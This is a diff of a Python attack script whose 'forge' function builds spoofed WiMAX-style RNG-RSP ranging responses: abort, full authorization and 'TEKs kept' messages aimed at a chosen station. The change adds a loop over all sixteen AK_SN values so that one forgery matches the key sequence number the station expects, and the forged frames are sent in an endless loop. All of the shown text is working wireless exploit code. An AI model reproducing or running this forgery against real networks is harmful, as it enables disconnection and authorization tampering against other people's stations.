@@ -41,12 +41,12 @@ def forge(ifname, station):
     own = air.getsockname()[4]
     head = bytes((RNG_RSP, 0))
     cids = tlv(8, station) + tlv(9, b'\x00\x63') + tlv(10, b'\x01\xa3')
-    tuple_ = tlv(141, bytes(13))
-    forged = [head + tlv(4, b'\x02') + tlv(8, station),                   # abort
-              head + tlv(4, b'\x03') + cids,                              # full authorization
-              head + tlv(4, b'\x03') + cids + tlv(21, b'\x00\x87'),       # TEKs kept
-              head + tlv(4, b'\x03') + cids + tlv(21, b'\x00\x87') + tuple_,
-              head + tlv(4, b'\x02') + tlv(8, station) + tuple_]
+    abort = head + tlv(4, b'\x02') + tlv(8, station)
+    keep = head + tlv(4, b'\x03') + cids + tlv(21, b'\x00\x87')
+    forged = [abort, head + tlv(4, b'\x03') + cids, keep]
+    # one of these has the AK_SN that the station waits for
+    for ak_sn in range(16):
+        forged += [m + tlv(141, bytes((ak_sn,)) + bytes(12)) for m in (keep, abort)]
     while True:
         for message in forged:
             air.send(frame(station, own, message))
